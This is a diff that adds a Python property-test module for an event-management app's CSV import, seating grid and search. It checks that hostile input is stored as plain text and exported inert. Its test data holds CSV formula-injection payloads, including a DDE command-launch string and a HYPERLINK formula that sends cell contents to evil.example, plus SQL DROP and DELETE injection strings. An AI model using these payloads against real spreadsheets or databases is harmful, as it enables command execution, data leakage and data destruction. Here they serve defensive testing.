@@ -1,0 +1,403 @@
+"""Hostile and broken input: CSV imports, grid edits, search boxes and names that try to do harm.
+
+Property tests (hypothesis) share one organisation in a database of this module's own: hypothesis
+runs many examples per test function, and each example checks in the database that nothing was
+written. The number of generated cases is printed at the end of the module.
+"""
+
+from __future__ import annotations
+
+import codecs
+import csv
+import io
+import uuid
+from collections import Counter
+from collections.abc import Iterator
+from dataclasses import dataclass
+
+import pandas as pd
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from sqlalchemy import text
+
+from eventflow import events, participants, seating, statistics, tables
+from eventflow.db import Database
+from tests.conftest import Organisation, ScratchServer, make_organisation
+
+PROPERTY = settings(max_examples=60, deadline=None,
+                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
+                                           HealthCheck.data_too_large])
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE_TEXT = (
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
+    "'; DROP TABLE participants; --", "Robert'); DROP TABLE students;--", "%", "_", "%_%", "\\", "\\\\'",
+    "\"quoted\" name", "O'Brien", "Ωμέγα Ünïcødé 😀", "‮reversed", "a,b;c\td", "NULL", "null", "NaN",
+)
+ERROR_WORDS = {  # the kind of defect -> a word its message must contain
+    "empty_name": "name is missing", "long_name": "longer than 300", "unknown_track": "unknown track",
+    "retired_track": "deactivated", "twin": "also appears on line", "existing": "already a participant",
+    "bad_flag": "not yes or no", "extra_cells": "cells but the header has", "bad_email": "not an e-mail",
+    "control": "control characters",
+}
+cases: Counter[str] = Counter()
+
+
+@dataclass
+class Hostile:
+    database: Database
+    org: Organisation
+
+
+@pytest.fixture(scope="module")
+def hostile(pg_server: ScratchServer, request: pytest.FixtureRequest) -> Iterator[Hostile]:
+    database = pg_server.create_database()
+    yield Hostile(database, make_organisation(database, "Hostile"))
+    pg_server.drop_database(database)
+    reporter = request.config.pluginmanager.get_plugin("terminalreporter")
+    capture = request.config.pluginmanager.get_plugin("capturemanager")
+    if reporter is not None and capture is not None and cases:
+        with capture.global_and_fixture_disabled():
+            reporter.write_line("hostile input: generated cases run — " + ", ".join(
+                f"{name} {count}" for name, count in sorted(cases.items())) + f" (total {sum(cases.values())})")
+
+
+def _counts(h: Hostile) -> dict[str, int]:
+    with h.database.owner_connection() as conn:
+        return {table: conn.execute(text(f"SELECT count(*) FROM {table} WHERE event_id = :e"),  # noqa: S608
+                                    {"e": h.org.event_id}).scalar_one()
+                for table in ("participants", "participant_tracks", "table_assignments", "assignment_history",
+                              "tracks", "seating_tables")}
+
+
+def _seats(h: Hostile) -> set[tuple]:
+    with h.database.owner_connection() as conn:
+        return set(conn.execute(text("SELECT participant_id, table_number, seat_number, version "
+                                     "FROM table_assignments WHERE event_id = :e"), {"e": h.org.event_id}).all())
+
+
+def _context(h: Hostile) -> participants.ImportContext:
+    with h.database.tenant_session(h.org.manager) as session:
+        return participants.import_context(session, h.org.event_id)
+
+
+def _encode(content: str, encoding: str) -> bytes:
+    if encoding == "utf-16-be":  # with its byte-order mark, as Excel and Notepad write it
+        return codecs.BOM_UTF16_BE + content.encode("utf-16-be")
+    return content.encode(encoding)
+
+
+def _csv(rows: list[list[str]], delimiter: str) -> str:
+    out = io.StringIO()
+    csv.writer(out, delimiter=delimiter, lineterminator="\n").writerows(rows)
+    return out.getvalue()
+
+
+def _normal(name: str) -> str:
+    return " ".join(name.split())
+
+
+# Text a person could type, without control characters (those are a defect of their own).
+plain_text = st.text(st.characters(exclude_categories=("Cc", "Cs")), max_size=40)
+good_names = st.one_of(st.sampled_from(HOSTILE_TEXT), plain_text).filter(
+    lambda name: 0 < len(_normal(name)) <= 300)
+formats = st.sampled_from([("utf-8", ","), ("utf-8-sig", ","), ("utf-8", ";"), ("utf-8-sig", ";"),
+                           ("utf-8", "\t"), ("utf-16", "\t"), ("utf-16", ","), ("utf-16-be", ";")])
+kinds = st.sampled_from(["good", "good", "good", *ERROR_WORDS])
+
+
+def _row(kind: str, name: str, index: int, company: str, existing_email: str) -> list[str]:
+    """name, email, company, tracks, vip — with exactly the defect ``kind`` names."""
+    email, tracks, vip, extra = f"p{index}.{uuid.uuid4().hex[:8]}@ok.example", "Data", "no", []
+    match kind:
+        case "empty_name":
+            name = " \u2003 "
+        case "long_name":
+            name = "x" * 10_000
+        case "unknown_track":
+            tracks = "Astrology"
+        case "retired_track":
+            tracks = "data; Retired"
+        case "twin":
+            email = "twin@ok.example"
+        case "existing":
+            email = existing_email.upper()
+        case "bad_flag":
+            vip = "-1" if index % 3 == 0 else "1e9" if index % 3 == 1 else "99999999999999999999"
+        case "extra_cells":
+            extra = ["surplus"]
+        case "bad_email":
+            email = "not an address"
+        case "control":
+            company = "ACME\x00" if index % 2 else "Bell\x07Corp"
+    return [name, email, company, tracks, vip, *extra]
+
+
+@PROPERTY
+@given(data=st.data())
+def test_every_bad_row_is_reported_with_its_line_and_nothing_is_written(hostile, data):
+    before = _counts(hostile)
+    encoding, delimiter = data.draw(formats, label="format")
+    plan = data.draw(st.lists(st.tuples(kinds, good_names, st.sampled_from(["", "Acme", "Multi\nline Ltd"])),
+                              min_size=1, max_size=8), label="rows")
+    header = data.draw(st.sampled_from([["name", "email", "company", "tracks", "vip"],
+                                        ["Full name", "E-Mail", "Organisation", "Track", "VIP"]]))
+    rows = [_row(kind, name, i, company, "person0@hostile.example") for i, (kind, name, company) in enumerate(plan)]
+    expected: dict[int, str] = {}
+    line, twins, starts = 2, 0, []
+    for (kind, _, _), row in zip(plan, rows, strict=True):
+        starts.append(line)
+        twins += kind == "twin"
+        if kind != "good" and not (kind == "twin" and twins == 1):  # the first of the twins is fine
+            expected[line] = ERROR_WORDS[kind]
+        line += 1 + sum(cell.count("\n") for cell in row)
+    file = _encode(_csv([header, *rows], delimiter), encoding)
+
+    preview = participants.parse_participants_csv(file, _context(hostile), 5)
+    cases["csv rows"] += 1
+    assert preview.file_error is None, preview.file_error
+    assert set(preview.errors) == set(expected), (preview.errors, expected)
+    for bad_line, word in expected.items():
+        assert any(word in message for message in preview.errors[bad_line]), (bad_line, preview.errors[bad_line])
+    # Every row is in the preview, on its line, with its name as typed (spaces tidied).
+    assert list(preview.rows["name"]) == [_normal(row[0]) for row in rows]
+    assert list(preview.rows["line"]) == starts
+    if expected:
+        with hostile.database.tenant_session(hostile.org.manager) as session, pytest.raises(ValueError):
+            participants.import_participants(session, hostile.org.event_id, preview)
+    else:
+        assert preview.ok
+    assert _counts(hostile) == before
+
+
+@PROPERTY
+@given(names=st.lists(st.text(st.sampled_from("abcxyzéüöñçÅØ ,;-"), min_size=1, max_size=20)
+                      .filter(lambda n: any(c in n for c in "éüöñçÅØ") and _normal(n)), min_size=1, max_size=5),
+       delimiter=st.sampled_from([",", ";", "\t"]))
+def test_latin1_files_are_refused_as_a_whole_and_nothing_is_written(hostile, names, delimiter):
+    before = _counts(hostile)
+    file = _csv([["name"], *[[n] for n in names]], delimiter).encode("latin-1")
+    preview = participants.parse_participants_csv(file, _context(hostile), 5)
+    cases["latin-1 files"] += 1
+    assert preview.file_error and "UTF-8" in preview.file_error
+    assert not preview.ok and preview.rows.empty
+    assert _counts(hostile) == before
+
+
+@PROPERTY
+@given(header=st.lists(st.sampled_from(["name", "email", "Company", "shoe size", "e-mail", "mail", "", "Name",
+                                        "tracks", "salary"]), min_size=1, max_size=6))
+def test_missing_unknown_or_repeated_columns_refuse_the_file(hostile, header):
+    before = _counts(hostile)
+    keys = [participants._header(h) for h in header]
+    row = ["Ada Lovelace" if k == "name" else "" for k in keys]
+    preview = participants.parse_participants_csv(_csv([header, row], ",").encode(), _context(hostile), 5)
+    cases["column sets"] += 1
+    named = [k for k in keys if k]
+    if "name" not in named:
+        assert "needs a “name” column" in preview.file_error
+    elif set(named) - set(participants.IMPORT_COLUMNS):
+        assert "Unknown columns" in preview.file_error
+    elif len(set(named)) < len(named):
+        assert "more than once" in preview.file_error
+    else:
+        assert preview.ok and list(preview.rows["name"]) == ["Ada Lovelace"]
+    assert _counts(hostile) == before
+
+
+def test_byte_order_marks_and_missing_cells(hostile):
+    context = _context(hostile)
+    for file in (codecs.BOM_UTF8 + b"name,email\nAda,ada@x.test\n",
+                 "name\temail\r\nAda\tada@x.test\r\n".encode("utf-16"),
+                 b"name;email;company\nAda\n"):  # a short row: the missing cells are blank
+        preview = participants.parse_participants_csv(file, context, 5)
+        assert preview.ok, (file, preview.file_error, preview.errors)
+        assert list(preview.rows["name"]) == ["Ada"]
+    assert participants.parse_participants_csv(b"\xef\xbb\xbf", context, 5).file_error == "The file is empty."
+    assert "no participants" in participants.parse_participants_csv(b"name\n\n ,\n", context, 5).file_error
+
+
+def test_existing_email_in_another_case_and_duplicate_in_file(hostile):
+    context = _context(hostile)
+    preview = participants.parse_participants_csv(
+        b"name,email\nA,PERSON1@HOSTILE.EXAMPLE\nB,new@x.test\nC,New@X.test\n", context, 5)
+    assert preview.errors == {2: ("PERSON1@HOSTILE.EXAMPLE is already a participant of this event",),
+                              4: ("New@X.test also appears on line 3",)}
+
+
+# ---------------------------------------------------------------------------------- size limits
+
+def test_an_upload_over_the_limit_is_refused_before_it_is_parsed(hostile):
+    limit_mb = 1
+    too_big = b"\xff\xfe\x00garbage that is not even text" + b"\x00" * (1024 * 1024)
+    with pytest.raises(participants.UploadTooLarge, match="limit is 1 MB"):
+        participants.parse_participants_csv(too_big, _context(hostile), limit_mb)
+    at_the_limit = b"name\n" + (b"B" * 199 + b"\n") * 5242
+    at_the_limit += b"C" * (1024 * 1024 - len(at_the_limit) - 1) + b"\n"  # exactly 1 MB: still read
+    assert len(at_the_limit) == 1024 * 1024
+    preview = participants.parse_participants_csv(at_the_limit, _context(hostile), limit_mb)
+    assert preview.ok and len(preview.rows) == 5243
+
+
+def test_a_giant_cell_is_a_clear_error(hostile):
+    preview = participants.parse_participants_csv(b"name,company\nAda," + b"x" * 200_000 + b"\n",
+                                                  _context(hostile), 1)
+    assert preview.file_error == ("Line 2 has a cell of more than 131,072 characters: "
+                                  "this is not a participant list.")
+
+
+# ------------------------------------------------------------------- stored as text, exported inert
+
+def _exported_cells(data: bytes) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
+
+
+def _assert_inert(data: bytes) -> None:
+    dangerous = [cell for cell in _exported_cells(data) if cell.startswith(FORMULA_START)]
+    assert not dangerous, dangerous
+
+
+@PROPERTY
+@given(names=st.lists(good_names, min_size=1, max_size=4, unique_by=_normal),
+       company=st.sampled_from(HOSTILE_TEXT))
+def test_hostile_names_are_stored_verbatim_and_every_export_is_inert(hostile, names, company):
+    tag = uuid.uuid4().hex[:8]
+    rows = [[name, f"{tag}.{i}@ok.example", company] for i, name in enumerate(names)]
+    preview = participants.parse_participants_csv(_csv([["name", "email", "company"], *rows], ",").encode(),
+                                                  _context(hostile), 5)
+    assert preview.ok, (preview.file_error, preview.errors)
+    before = _counts(hostile)
+    with hostile.database.tenant_session(hostile.org.manager) as session:
+        assert participants.import_participants(session, hostile.org.event_id, preview) == len(names)
+    after = _counts(hostile)
+    assert after["participants"] == before["participants"] + len(names)
+    with hostile.database.tenant_session(hostile.org.viewer) as session:
+        stored = participants.list_participants(session, hostile.org.event_id)
+        exported = participants.export_participants_csv(session, hostile.org.event_id)
+    mine = stored[stored["email"].str.startswith(tag)].sort_values("email")
+    assert list(mine["name"]) == [_normal(n) for n in names]
+    assert set(mine["company"]) == {company}
+    _assert_inert(exported)
+    cases["hostile names imported"] += 1
+
+
+@PROPERTY
+@given(values=st.lists(st.one_of(st.sampled_from(HOSTILE_TEXT), plain_text, st.integers(0, 10**6)),
+                       min_size=1, max_size=6))
+def test_to_safe_csv_neutralises_any_text_cell(values):
+    frame = pd.DataFrame({"value": pd.Series(values, dtype=object),
+                          "as_string": pd.Series([str(v) for v in values], dtype="string")})
+    _assert_inert(participants.to_safe_csv(frame))
+    cases["csv cells"] += 1
+
+
+def test_place_cards_and_track_distribution_exports_are_inert(hostile):
+    org = hostile.org
+    with hostile.database.tenant_session(org.owner) as session:
+        track = events.add_track(session, org.event_id, "=HYPERLINK(\"http://evil\")")
+        added = tables.add_tables(session, org.event_id, first_number=40, count=1, capacity=4, is_vip=False,
+                                  label="@SUM(1+1)", accessible=False)
+        person = session.execute(text("INSERT INTO participants (event_id, full_name, company) "
+                                      "VALUES (:e, '-2+3 Mallory', '+cmd') RETURNING id"),
+                                 {"e": org.event_id}).scalar_one()
+        session.execute(text("INSERT INTO participant_tracks (event_id, participant_id, track_id) "
+                             "VALUES (:e, :p, :t)"), {"e": org.event_id, "p": person, "t": track})
+        session.execute(text("INSERT INTO table_assignments (event_id, participant_id, table_number, assigned_by) "
+                             "VALUES (:e, :p, :t, 'manager')"), {"e": org.event_id, "p": person, "t": added[0]})
+        cards = tables.place_cards(session, org.event_id)
+        distribution = statistics.track_distribution(session, org.event_id)
+        by_track = statistics.seating_by_track(session, org.event_id)
+    assert "-2+3 Mallory" in set(cards["name"]) and "=HYPERLINK(\"http://evil\")" in set(distribution["track"])
+    for frame in (cards, distribution, by_track):
+        exported = participants.to_safe_csv(frame)
+        _assert_inert(exported)
+    assert "'-2+3 Mallory" in _exported_cells(participants.to_safe_csv(cards))
+
+
+# ------------------------------------------------------------------------ grid edits out of range
+
+impossible = st.one_of(
+    st.sampled_from(["abc", "1.5", "1e9", "0", "-1", "NaN", "inf", "-inf", "½", "1,5", "3 4", "0x10", "🙂"]),
+    # No table or seat number below a million exists here (other tests add tables).
+    st.integers(max_value=0), st.integers(min_value=10**6, max_value=10**30),
+    # (A float NaN is how the editor reports a cleared cell, which unseats: not impossible.)
+    st.floats(allow_nan=False, allow_infinity=True).filter(lambda f: not (f.is_integer() and 1 <= f < 10**6)),
+    st.booleans(),
+)
+
+
+@PROPERTY
+@given(data=st.data())
+def test_impossible_grid_values_are_refused_and_nothing_is_written(hostile, data):
+    org = hostile.org
+    with hostile.database.tenant_session(org.manager) as session:
+        grid = seating.load_seating_grid(session, org.event_id)
+    ours = grid.frame.index[grid.frame["participant_id"].isin([str(p) for p in org.participant_ids])]
+    frame = grid.frame.loc[ours].reset_index(drop=True)
+    bad_position = data.draw(st.integers(0, len(frame) - 1), label="bad row")
+    column = data.draw(st.sampled_from(["table_number", "seat_number", "seat beyond capacity"]), label="column")
+    if column == "seat beyond capacity":  # table 3 has 2 seats
+        edit = {"table_number": 3, "seat_number": data.draw(st.integers(3, 10**9), label="seat")}
+    elif column == "seat_number":
+        edit = {"table_number": 2, "seat_number": data.draw(impossible, label="value")}
+    else:
+        edit = {"table_number": data.draw(impossible, label="value")}
+    edits = {position: {"table_number": data.draw(st.sampled_from([1, 2, None]), label=f"other {position}")}
+             for position in data.draw(st.sets(st.integers(0, len(frame) - 1), max_size=3), label="others")
+             if position != bad_position}
+    edits[bad_position] = edit
+    seats, before = _seats(hostile), _counts(hostile)
+
+    change_set = seating.changes_from_editor(frame, {"edited_rows": edits})
+    problems = seating.validate_changes(change_set, grid)
+    bad_person = str(frame.loc[bad_position, "participant_id"])
+    assert problems.get(bad_person), (edit, problems)
+    with hostile.database.tenant_session(org.manager) as session:
+        result = seating.save_changes(session, org.event_id, change_set, grid)
+    cases["grid edits"] += 1
+    assert not result.ok and result.saved == 0 and result.problems.get(bad_person)
+    assert (_seats(hostile), _counts(hostile)) == (seats, before)
+
+
+# ------------------------------------------------------------------------ SQL in search and names
+
+@PROPERTY
+@given(needle=st.one_of(st.sampled_from(HOSTILE_TEXT), plain_text))
+def test_search_matches_literally(hostile, needle):
+    with hostile.database.tenant_session(hostile.org.viewer) as session:
+        grid = seating.load_seating_grid(session, hostile.org.event_id)
+    shown = seating.filter_grid(grid.frame, search=needle)
+    wanted = needle.strip().lower()
+    expected = [pid for pid, *texts in zip(grid.frame["participant_id"], grid.frame["full_name"],
+                                           grid.frame["company"], grid.frame["email"], strict=True)
+                if wanted in "\n".join(t if isinstance(t, str) else "" for t in texts).lower()]
+    assert list(shown["participant_id"]) == expected
+    cases["search needles"] += 1
+
+
+def test_sql_in_names_and_track_names_is_only_text(hostile):
+    org = hostile.org
+    before = _counts(hostile)
+    tag = uuid.uuid4().hex[:8]
+    payload, company = f"'; DROP TABLE participants; -- {tag}", f"%_\\{tag}"
+    with hostile.database.tenant_session(org.manager) as session:
+        events.add_track(session, org.event_id, f"x'); DELETE FROM tracks; -- {tag}")
+        preview = participants.parse_participants_csv(
+            _csv([["name", "email", "company"], [payload, f"{tag}@x.test", company]], ";").encode(),
+            participants.import_context(session, org.event_id), 5)
+        participants.import_participants(session, org.event_id, preview)
+        grid = seating.load_seating_grid(session, org.event_id)
+        track_names = [t.name for t in events.list_tracks(session, org.event_id)]
+    assert f"x'); DELETE FROM tracks; -- {tag}" in track_names
+    found = seating.filter_grid(grid.frame, search=f"'; drop table participants; -- {tag}")
+    assert list(found["full_name"]) == [payload] and list(found["company"]) == [company]
+    # '%' and '_' are characters, not wildcards: only rows that contain them literally.
+    assert list(seating.filter_grid(grid.frame, search=f"%_\\{tag}")["full_name"]) == [payload]
+    literal = sum("%_" in "\n".join(t if isinstance(t, str) else "" for t in texts)
+                  for texts in zip(grid.frame["full_name"], grid.frame["company"], grid.frame["email"], strict=True))
+    assert len(seating.filter_grid(grid.frame, search="%_")) == literal >= 1
+    with hostile.database.owner_connection() as conn:
+        assert conn.execute(text("SELECT to_regclass('participants') IS NOT NULL AND "
+                                 "to_regclass('tracks') IS NOT NULL")).scalar_one()
+    after = _counts(hostile)
+    assert after == {**before, "participants": before["participants"] + 1, "tracks": before["tracks"] + 1}
